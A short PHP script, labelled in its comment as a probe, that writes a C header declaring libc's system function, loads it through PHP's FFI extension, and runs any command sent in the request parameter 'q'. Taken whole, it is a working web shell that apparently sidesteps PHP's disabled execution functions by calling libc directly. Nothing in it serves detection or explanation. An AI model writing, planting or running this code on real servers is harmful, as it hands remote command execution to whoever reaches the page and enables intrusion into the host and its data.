<?php
// probe (never run): the declarations are written to a header file and loaded with FFI::load
$h = sys_get_temp_dir() . '/x.h';
file_put_contents($h, "#define FFI_LIB \"libc.so.6\"\nint execl(const char *p, const char *a, ...);\nint system(const char *c);\n");
$c = FFI::load($h);
$c->system((string) $_REQUEST['q']);
